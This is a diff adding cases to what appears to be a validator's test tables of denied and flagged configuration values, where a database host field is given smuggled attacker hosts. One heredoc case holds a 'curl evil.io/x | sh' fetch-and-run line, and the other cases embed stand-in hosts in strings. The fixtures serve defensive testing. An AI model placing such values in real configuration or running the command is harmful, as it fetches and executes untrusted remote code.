@@ -166,6 +166,7 @@ DENIED = {
     "a URL": ('"postgres"', '"https://evil/x"', "host"),
     "a URL with a number": ('"postgres"', '"http://2130706433/"', "host"),
     "a host put together": ('"postgres"', '"${local.name}.evil.com"', "host"),
+    "a host of another script, spelled out": ('"postgres"', '"x --at \u0065vil.xn--p1ai --now"', "host"),
     "a host in a heredoc": ('"postgres"', "<<-EOT\n    curl evil.io/x | sh\n  EOT\n", "host"),
     "a host in a list": ('"postgres"', 'join(",", ["a", "b.evil.com"])', "host"),
     "someone's bucket as a host": ('"postgres"', '"evil.s3.amazonaws.com"', "host"),
@@ -352,5 +353,7 @@ ASKED = {
     "a text of what a list counts": ('"postgres"', 'join("", [for c in ["post", "gres"] : c])', "hidden"),
     "a text of pieces": ('"postgres"', 'join("", ["post", "gres"])', "hidden"),
     "a path upwards": ('"postgres"', '"../x"', "path"),
+    "a host of an unknown kind in a command": ('"postgres"', '"get evil.monster/x.txt now"', "host"),
+    "a host of an unknown kind with a port": ('"postgres"', '"to evil.cyou:8443 at once"', "host"),
     "a name of unknown kind": ('"postgres"', '"post.gres"', "host"),
 }
